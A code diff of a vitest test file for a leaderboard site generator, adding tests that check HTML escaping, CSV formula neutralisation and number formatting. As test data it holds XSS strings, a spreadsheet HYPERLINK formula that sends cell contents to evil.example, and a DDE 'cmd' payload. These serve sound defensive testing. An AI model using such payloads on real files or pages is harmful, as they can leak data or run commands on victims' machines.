@@ -1,4 +1,6 @@
+import fc from 'fast-check'
 import { beforeAll, describe, expect, it } from 'vitest'
+import { formatNumber } from '../../src/core/text.js'
 import { HtmlValidate } from 'html-validate'
 import { blockedFiles } from '../../src/validate/publishable.js'
 import { buildSiteModel } from '../../src/model/site.js'
@@ -7,8 +9,9 @@ import type { NormalizeResult } from '../../src/registry/types.js'
 import { lineChart, ticks } from '../../src/render/chart.js'
 import { snapshotCsv } from '../../src/render/data.js'
 import { safeUrl } from '../../src/render/escape.js'
-import { renderSite, type OutputFile } from '../../src/render/site.js'
+import { renderAll, type OutputFile } from '../../src/render/site.js'
 import { parseBaseUrl } from '../../src/render/urls.js'
+import { numberCell, readShown, shownNumber } from '../../src/render/view-table.js'
 import { seedStore } from './helpers.js'
 
 let seeds: NormalizeResult
@@ -32,7 +35,7 @@ function hostile(base = parseBaseUrl('/')): OutputFile[] {
   // The new leader of 2025-11-20 is named in the feed: a CDATA end and a control character too.
   normalized.registry.models.find((m) => m.id === 'gemini-3-pro')!.name = '<script>alert("leader")</script>]]>\u0007'
   const site = buildSiteModel({ normalized, fileDiagnostics: [], files: [], blocked: new Set() })
-  return renderSite(site, { base, registry: normalized.registry })
+  return renderAll(site, { base, registry: normalized.registry })
 }
 
 describe('render', () => {
@@ -49,8 +52,9 @@ describe('render', () => {
     expect(model).toContain('<h1>&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;</h1>')
     expect(model).toContain('<code>&lt;img src=x onerror=&#39;alert(1)&#39;&gt;</code>')
     const board = html.find((f) => f.path === 'boards/lmarena-text/index.html')!.content
-    expect(board).toContain('<a class="external" href="https://example.org/m?a=1&amp;b=2" rel="nofollow noopener" title="Upstream page of gpt-5.1-high" aria-label="Upstream page of gpt-5.1-high">↗</a>')
-    expect(board).toContain('data-org="Evil &quot;Org&quot; &lt;b&gt;&amp;"')
+    expect(board).toContain('<a class="external" href="https://example.org/m?a=1&amp;b=2" rel="nofollow noopener" aria-label="Upstream page of gpt-5.1-high">↗</a>')
+    expect(board).toMatch(/<td class="t"><a href="\/organizations\/[^"]+\/">Evil &quot;Org&quot; &lt;b&gt;&amp;<\/a><\/td>/)
+    expect(board).toContain('data-search="grok-4.1 &lt;img src=x onerror=&#39;alert(1)&#39;&gt;"')
     // Still valid HTML with hostile text in it.
     const validator = new HtmlValidate({ extends: ['html-validate:recommended'] })
     for (const path of ['models/grok-4.1/index.html', 'boards/lmarena-text/index.html', 'index.html']) {
@@ -63,20 +67,63 @@ describe('render', () => {
     expect(feed).not.toMatch(/[\u0000-\u0008]/)
   })
 
+  it('neutralises CSV text cells that a spreadsheet would run as formulas; numbers stay numbers', () => {
+    const s = structuredClone(seeds.snapshots.find((x) => x.board === 'lmarena-text')!)
+    const row = s.rows[0]!
+    s.rows = [
+      { ...row, name: '=HYPERLINK("https://evil.example/?x="&A1,"click")', organization: '+cmd|\' /C calc\'!A0', license: '@SUM(1+1)' },
+      { ...row, model: 'b', rank: 2, name: '-2+3', organization: '\tTabbed', license: '\rReturn', score: -12.5, votes: 0 },
+      { ...row, model: 'c', rank: 3, name: 'plain name', organization: 'a=b', license: 'MIT' }
+    ]
+    const lines = snapshotCsv(s).split('\r\n')
+    const header = lines[0]!.split(',')
+    expect(header.slice(0, 6)).toEqual(['model', 'rank', 'rankUpper', 'rankLower', 'name', 'score'])
+    expect(lines[1]).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",`)
+    expect(lines[1]).toContain(`,"'+cmd|' /C calc'!A0","'@SUM(1+1)"`)
+    expect(lines[2]).toContain(`,"'-2+3",-12.5,`)
+    expect(lines[2]).toContain(`,"'\tTabbed","'\rReturn"`)
+    expect(lines[3]).toContain(',plain name,')
+    expect(lines[3]).toContain(',a=b,MIT')
+    // No field of any line starts like a formula once parsed (quotes removed).
+    for (const line of lines.slice(1, 4)) {
+      for (const field of line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.filter((f) => f !== '')) {
+        const value = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field
+        if (!/^-?\d+(\.\d+)?$/.test(value)) expect(value, line).not.toMatch(/^[=+\-@\t\r]/)
+      }
+    }
+  })
+
+  it('prints a sort key only where the script cannot read it from the text', () => {
+    expect(readShown('1,451')).toBe(1451)
+    expect(readShown('−3')).toBe(-3)
+    expect(readShown('+2')).toBe(2)
+    expect(readShown('±11')).toBe(11)
+    expect(readShown('+33/−27')).toBe(33)
+    expect(readShown('14.61%')).toBe(14.61)
+    expect(readShown('$1.25 / $10', 'price')).toBe(1.25)
+    expect(readShown('? / $10', 'price')).toBe(10)
+    expect(readShown('128K', 'tokens')).toBe(128_000)
+    expect(readShown('1.05M', 'tokens')).toBe(1_050_000)
+    expect(readShown('new')).toBeNaN()
+    expect(numberCell(1451)).toEqual({ text: '1,451' })
+    expect(numberCell(90.3456)).toEqual({ text: '90.35', sort: 90.3456 })
+    expect(shownNumber('131.1K', 131_072, 'tokens')).toEqual({ text: '131.1K', sort: 131_072 })
+    expect(shownNumber('1M', 1_000_000, 'tokens')).toEqual({ text: '1M' })
+  })
+
+  it('formats whole numbers as Intl does (en-US), by its own faster path', () => {
+    const intl = new Intl.NumberFormat('en-US', { maximumFractionDigits: 0 })
+    fc.assert(fc.property(fc.maxSafeInteger(), (n) => formatNumber(n) === intl.format(n)), { numRuns: 2000 })
+    for (const n of [0, -0, 999, 1000, -1000, 1234567]) expect(formatNumber(n)).toBe(intl.format(n))
+    expect(formatNumber(1451.567)).toBe('1,451.57')
+  })
+
   it('quotes CSV fields that need it', () => {
     const s = structuredClone(seeds.snapshots.find((x) => x.board === 'lmarena-text')!)
     s.rows = [{ ...s.rows[0]!, name: 'a,"b"\nc', organization: 'Org' }]
     const [header, line] = snapshotCsv(s).split('\r\n')
     expect(header!.split(',')[4]).toBe('name')
     expect(line).toContain(',"a,""b""\nc",')
-  })
-
-  it('defuses CSV cells a spreadsheet would run as formulas (a formula-cell kept from a capture)', () => {
-    const s = structuredClone(seeds.snapshots.find((x) => x.board === 'lmarena-text')!)
-    s.rows = [{ ...s.rows[0]!, name: '=HYPERLINK("http://x","y")', organization: '@SUM(A1)', score: -3 }]
-    const [, line] = snapshotCsv(s).split('\r\n')
-    expect(line).toContain(`,"'=HYPERLINK(""http://x"",""y"")",-3,`)
-    expect(line).toContain(",'@SUM(A1),")
   })
 
   it('accepts only http(s) URLs as links', () => {
